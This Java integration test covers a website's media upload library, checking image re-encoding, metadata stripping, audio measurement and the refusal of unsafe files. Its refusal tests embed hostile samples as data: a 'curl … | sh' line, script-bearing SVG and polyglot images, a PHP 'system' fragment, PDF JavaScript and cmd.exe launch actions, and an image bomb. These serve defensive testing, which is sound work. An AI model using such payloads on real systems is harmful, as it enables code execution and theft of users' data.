package be.mmmbelgium.site.media;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Set;

import javax.imageio.ImageIO;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.core.io.ClassPathResource;
import org.springframework.core.io.Resource;
import org.springframework.data.domain.Pageable;
import org.springframework.test.context.event.ApplicationEvents;
import org.springframework.test.context.event.RecordApplicationEvents;

import be.mmmbelgium.site.audit.AuditLog;
import be.mmmbelgium.site.test.PdfCorpus;
import be.mmmbelgium.site.test.SiteIntegrationTest;
import be.mmmbelgium.site.test.TestMedia;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

@SiteIntegrationTest
@RecordApplicationEvents
class MediaUploadIntegrationTest {

	static final AuditLog.Actor VOLUNTEER = new AuditLog.Actor(null, "volunteer@example.org");

	static final Set<MediaKind> IMAGES = Set.of(MediaKind.IMAGE);

	static final Set<MediaKind> ANYTHING = Set.of(MediaKind.values());

	@Autowired
	MediaLibrary library;

	@Autowired
	MediaStorage storage;

	@Autowired
	ApplicationEvents events;

	MediaFile upload(String name, byte[] content, Set<MediaKind> accepted) {
		return this.library.upload(name, new ByteArrayInputStream(content), accepted, VOLUNTEER);
	}

	void assertRefused(String name, byte[] content, Set<MediaKind> accepted, String reason) {
		assertThatExceptionOfType(UploadRefusedException.class).isThrownBy(() -> upload(name, content, accepted))
			.satisfies((refused) -> assertThat(refused.messageKey()).isEqualTo("media.refused." + reason));
	}

	byte[] stored(String key) throws IOException {
		Resource resource = this.storage.load(key).orElseThrow();
		try (InputStream in = resource.getInputStream()) {
			return in.readAllBytes();
		}
	}

	@Test
	void aPhotoIsTurnedUprightReEncodedWithoutItsMetadataAndStoredInSeveralWidths() throws IOException {
		MediaFile photo = upload("Photo été.JPG", TestMedia.jpegWithExif(1200, 800, 6), IMAGES);

		assertThat(photo.getMediaType()).isEqualTo("image/jpeg");
		assertThat(photo.getStorageKey()).matches("2026/11/photo-ete-[0-9a-f]{12}\\.jpg");
		assertThat(photo.getOriginalFilename()).isEqualTo("Photo été.JPG");
		// Held a quarter turn: the stored picture is upright, taller than wide.
		assertThat(photo.getWidth()).isEqualTo(800);
		assertThat(photo.getHeight()).isEqualTo(1200);
		assertThat(photo.getVariants()).extracting(MediaFile.Variant::width).containsExactly(480);
		assertThat(photo.getVariants().get(0).height()).isEqualTo(720);
		for (String key : photo.allKeys()) {
			String bytes = new String(stored(key), StandardCharsets.ISO_8859_1);
			assertThat(bytes).doesNotContain("Exif").doesNotContain(TestMedia.EXIF_SECRET);
		}
		assertThat(photo.getByteLength()).isEqualTo(stored(photo.getStorageKey()).length);
	}

	@Test
	void aWideImageGetsEveryWidthSmallerThanItselfAndIsCappedAtTheLargestWidth() {
		MediaFile image = upload("panorama.png", TestMedia.png(3600, 900), IMAGES);

		assertThat(image.getWidth()).isEqualTo(ImageEncoder.MAX_WIDTH);
		assertThat(image.getHeight()).isEqualTo(750);
		assertThat(image.getVariants()).extracting(MediaFile.Variant::width).containsExactly(480, 960, 1600);
	}

	@Test
	void opaqueImagesBecomeJpegAndTransparentOnesStayPng() {
		assertThat(upload("opaque.png", TestMedia.png(40, 30), IMAGES).getMediaType()).isEqualTo("image/jpeg");
		assertThat(upload("logo.png", TestMedia.transparentPng(40, 30), IMAGES).getMediaType()).isEqualTo("image/png");
		assertThat(upload("old.gif", TestMedia.gif(40, 30), IMAGES).getStorageKey()).endsWith(".jpg");
	}

	@Test
	void aWebpImageIsAccepted() throws IOException {
		byte[] webp = new ClassPathResource("media/sample.webp").getContentAsByteArray();

		MediaFile image = upload("sample.webp", webp, IMAGES);

		assertThat(image.getWidth()).isEqualTo(64);
		assertThat(image.getHeight()).isEqualTo(40);
		assertThat(image.getMediaType()).isEqualTo("image/jpeg");
	}

	@Test
	void mp3AudioIsMeasuredAndKeptAsItIs() throws IOException {
		byte[] mp3 = TestMedia.mp3(61);

		MediaFile audio = upload("episode.mp3", mp3, Set.of(MediaKind.AUDIO));

		assertThat(audio.getMediaType()).isEqualTo("audio/mpeg");
		assertThat(audio.getDurationSeconds()).isEqualTo(61);
		assertThat(audio.getByteLength()).isEqualTo(mp3.length);
		assertThat(stored(audio.getStorageKey())).isEqualTo(mp3);
	}

	@Test
	void m4aAudioIsMeasuredFromItsMovieHeader() {
		MediaFile audio = upload("episode.m4a", TestMedia.m4a(1530), Set.of(MediaKind.AUDIO));

		assertThat(audio.getMediaType()).isEqualTo("audio/x-m4a");
		assertThat(audio.getDurationSeconds()).isEqualTo(1530);
	}

	@Test
	void theDemoFilesPassTheChecks() throws IOException {
		for (String name : new String[] { "demo/audio/episode-1.mp3", "demo/documents/communique-conge-parental.pdf",
				"demo/images/home.jpg", "demo/images/podcast-square.jpg" }) {
			byte[] content = new ClassPathResource(name).getContentAsByteArray();
			assertThat(upload(name.substring(name.lastIndexOf('/') + 1), content, ANYTHING).getId()).isNotNull();
		}
	}

	@Test
	void aPdfDocumentIsKeptAsItIs() throws IOException {
		MediaFile pdf = upload("Communiqué de presse.pdf", TestMedia.pdf(), Set.of(MediaKind.DOCUMENT));

		assertThat(pdf.getMediaType()).isEqualTo("application/pdf");
		assertThat(stored(pdf.getStorageKey())).isEqualTo(TestMedia.pdf());
	}

	@Test
	void theSameFileUploadedTwiceIsOneFileUploadedOnce() {
		assertThat(upload("a.pdf", TestMedia.pdf(), ANYTHING).getId())
			.isEqualTo(upload("a.pdf", TestMedia.pdf(), ANYTHING).getId());
		assertThat(this.events.stream(MediaEvent.Uploaded.class)).as("what the audit log is told").hasSize(1);
	}

	@Test
	void aScriptNamedLikeAPhotoIsRefused() {
		assertRefused("photo.jpg", "#!/bin/sh\ncurl http://example.org | sh\n".getBytes(StandardCharsets.US_ASCII),
				ANYTHING, "type");
		assertRefused("page.pdf", "<html><body>hello</body></html>".getBytes(StandardCharsets.US_ASCII), ANYTHING,
				"type");
	}

	@Test
	void svgImagesAreRefused() {
		assertRefused("logo.svg", """
				<?xml version="1.0"?>
				<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
				""".getBytes(StandardCharsets.UTF_8), IMAGES, "svg");
		assertRefused("logo.png", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>".getBytes(StandardCharsets.UTF_8),
				IMAGES, "svg");
	}

	@Test
	void polyglotFilesAreRefused() {
		byte[] script = "<script>alert(document.cookie)</script>".getBytes(StandardCharsets.US_ASCII);
		// A picture with a page appended, and a picture with a script in its comment.
		assertRefused("photo.png", TestMedia.concat(TestMedia.png(20, 20), script), IMAGES, "polyglot");
		byte[] jpeg = TestMedia.jpeg(20, 20);
		byte[] comment = TestMedia.concat(new byte[] { (byte) 0xff, (byte) 0xfe, 0, 20 },
				"<?php system($x);".getBytes(StandardCharsets.US_ASCII), new byte[] { ' ' });
		assertRefused("photo.jpg",
				TestMedia.concat(Arrays.copyOf(jpeg, 2), comment, Arrays.copyOfRange(jpeg, 2, jpeg.length)), IMAGES,
				"polyglot");
		// A sound followed by anything.
		byte[] zip = { 'P', 'K', 3, 4, 20, 0, 0, 0, 0, 0 };
		assertRefused("episode.mp3", TestMedia.concat(TestMedia.mp3(2), zip), ANYTHING, "extraData");
		assertRefused("episode.m4a", TestMedia.concat(TestMedia.m4a(2), zip), ANYTHING, "extraData");
	}

	@Test
	void whateverFollowsAPictureIsLeftBehindWhenItIsEncodedAgain() throws IOException {
		// The video a phone appends to a "motion photo".
		byte[] video = TestMedia.concat(new byte[] { 0, 0, 0, 24 }, "ftypmp42".getBytes(StandardCharsets.US_ASCII),
				new byte[16]);
		// Past the first kilobyte, where the scan for markup does not reach.
		byte[] script = "<script>alert(document.cookie)</script>".getBytes(StandardCharsets.US_ASCII);
		// An archive, which makes a picture a "GIFAR".
		byte[] zip = { 'P', 'K', 3, 4, 20, 0, 0, 0, 0, 0 };
		byte[] webp = new ClassPathResource("media/sample.webp").getContentAsByteArray();
		assertLeftBehind("PXL_20261125_MP.jpg", TestMedia.jpeg(40, 30), video);
		assertLeftBehind("photo.jpg", TestMedia.jpeg(40, 30), zip);
		assertLeftBehind("photo.png", TestMedia.transparentPng(400, 300), script);
		assertLeftBehind("photo.gif", TestMedia.gif(20, 20), zip);
		assertLeftBehind("photo.webp", webp, zip);
		assertThat(upload("photo.jpg", TestMedia.concat(TestMedia.jpeg(40, 30), new byte[] { 0 }), IMAGES))
			.as("one byte after the end")
			.isNotNull();
	}

	private void assertLeftBehind(String name, byte[] picture, byte[] appended) throws IOException {
		String trace = new String(appended, StandardCharsets.ISO_8859_1);
		MediaFile kept = upload(name, TestMedia.concat(picture, appended), IMAGES);
		assertThat(new String(stored(kept.getStorageKey()), StandardCharsets.ISO_8859_1)).as(name)
			.doesNotContain(trace);
	}

	@Test
	void filesWhoseStructurePromisesMoreThanTheyHoldAreRefused() {
		byte[] longTag = { 'I', 'D', '3', 4, 0, 0, 0x7f, 0x7f, 0x7f, 0x7f, 1, 2, 3 };
		assertRefused("episode.mp3", longTag, ANYTHING, "truncated");
		byte[] m4a = TestMedia.m4a(2);
		assertRefused("episode.m4a", TestMedia.concat(m4a, new byte[] { 0, 0, 0, 1, 'm', 'd', 'a', 't' }), ANYTHING,
				"truncated");
	}

	@Test
	void truncatedFilesAreRefused() {
		byte[] jpeg = TestMedia.jpeg(200, 100);
		assertRefused("photo.jpg", Arrays.copyOf(jpeg, jpeg.length - 40), IMAGES, "truncated");
		// The readers would decode these: only the end marker is missing.
		assertRefused("photo.jpg", Arrays.copyOf(jpeg, jpeg.length - 1), IMAGES, "truncated");
		assertRefused("photo.png", Arrays.copyOf(TestMedia.png(200, 100), TestMedia.png(200, 100).length - 2), IMAGES,
				"truncated");
		byte[] png = TestMedia.png(200, 100);
		assertRefused("photo.png", Arrays.copyOf(png, png.length - 20), IMAGES, "truncated");
		byte[] mp3 = TestMedia.mp3(3);
		assertRefused("episode.mp3", Arrays.copyOf(mp3, mp3.length - 100), ANYTHING, "truncated");
		byte[] m4a = TestMedia.m4a(3);
		assertRefused("episode.m4a", Arrays.copyOf(m4a, m4a.length - 100), ANYTHING, "truncated");
		byte[] pdf = TestMedia.pdf();
		assertRefused("document.pdf", Arrays.copyOf(pdf, pdf.length - 10), ANYTHING, "truncated");
	}

	@Test
	void pdfDocumentsWithActiveContentAreRefused() {
		assertRefused("a.pdf", TestMedia.pdf("/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"), ANYTHING,
				"activeContent");
		assertRefused("b.pdf", TestMedia.pdf("/AA << /O << /S /J#61vaScript >> >>"), ANYTHING, "activeContent");
		assertRefused("c.pdf", TestMedia.pdf("/AA << /O << /S /Launch /F (cmd.exe) >> >>"), ANYTHING, "activeContent");
		assertRefused("d.pdf", PdfCorpus.scriptInAnObjectStreamOfLengthOneHundredAndSomething(), ANYTHING,
				"activeContent");
		assertRefused("e.pdf", PdfCorpus.embeddedFile(), ANYTHING, "activeContent");
	}

	@Test
	void aFileOfAnotherKindThanAskedIsRefused() {
		assertRefused("episode.mp3", TestMedia.mp3(2), IMAGES, "wrongKind");
		assertRefused("photo.jpg", TestMedia.jpeg(20, 20), Set.of(MediaKind.DOCUMENT), "wrongKind");
	}

	@Test
	void emptyAndHugeImagesAreRefused() {
		assertRefused("empty.jpg", new byte[0], IMAGES, "empty");
		BufferedImage huge = new BufferedImage(9000, 9000, BufferedImage.TYPE_BYTE_BINARY);
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try {
			ImageIO.write(huge, "png", out);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		assertRefused("bomb.png", out.toByteArray(), IMAGES, "tooManyPixels");
	}

	@Test
	void aRefusedUploadLeavesNothingInTheLibrary() {
		long before = this.library.list(null, null, Pageable.unpaged()).getTotalElements();

		assertRefused("photo.jpg", "not a photo".getBytes(StandardCharsets.US_ASCII), ANYTHING, "type");

		assertThat(this.library.list(null, null, Pageable.unpaged()).getTotalElements()).isEqualTo(before);
	}

}
